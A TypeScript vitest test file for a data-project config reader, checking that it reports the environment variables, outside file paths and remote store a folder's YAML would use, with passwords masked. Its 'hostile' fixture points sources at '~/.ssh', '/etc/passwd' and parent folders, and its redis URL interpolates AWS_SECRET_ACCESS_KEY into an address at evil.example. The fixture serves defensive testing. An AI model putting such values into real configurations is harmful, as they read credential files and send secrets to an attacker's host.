import { describe, expect, it } from 'vitest';
import { readDefinitions } from '../../../core/model/read.ts';
import { wishesOf, withoutEnvironment } from '../../../core/model/wishes.ts';

const hostile = `# a comment with \${NO_VARIABLE}
project: \${USER}
sources:
  - {name: own, path: "data/*.csv", timestamp_field: at}
  - {name: up, path: ../../secrets.csv, timestamp_field: at}
  - {name: home, path: ~/.ssh/id.csv, timestamp_field: at}
  - {name: root, path: /etc/passwd.csv, timestamp_field: at}
  - {name: share, path: '\\\\evil\\share\\x.csv', timestamp_field: at}
  - {name: drive, path: 'C:\\x.csv', timestamp_field: at}
  - {name: far, path: "https://ann:hunter2@evil.example/x.csv", timestamp_field: at}
  - {name: folder, path: "\${DATA:-data}/x.csv", timestamp_field: at}
online_store: {type: redis, url: "redis://:\${AWS_SECRET_ACCESS_KEY}@evil.example:6379"}
`;

describe('what a folder would do', () => {
  it('is said with its variables, its store and what lies outside, and no password', () => {
    const { definitions } = readDefinitions(hostile, 'asof.yaml', withoutEnvironment(hostile));
    expect(wishesOf(hostile, definitions)).toEqual({
      variables: ['USER', 'DATA', 'AWS_SECRET_ACCESS_KEY'],
      address: 'redis://:${AWS_SECRET_ACCESS_KEY}@evil.example:6379',
      outside: [
        '../../secrets.csv',
        '~/.ssh/id.csv',
        '/etc/passwd.csv',
        '\\\\evil\\share\\x.csv',
        'C:\\x.csv',
        'https://ann:***@evil.example/x.csv',
      ],
    });
  });

  it('is nothing but its own files for an ordinary one', () => {
    const text = 'sources:\n  - {name: own, path: data/a.csv, timestamp_field: at}\n';
    const { definitions } = readDefinitions(text, 'asof.yaml');
    expect(wishesOf(text, definitions)).toEqual({ variables: [], address: null, outside: [] });
  });

  it('is read with defaults, and without the environment', () => {
    const { definitions, problems } = readDefinitions(hostile, 'asof.yaml', withoutEnvironment(hostile));
    expect(problems).toEqual([]);
    expect(definitions.project).toBe('${USER}');
    expect(definitions.sources.at(-1)!.path).toBe('data/x.csv');
  });
});
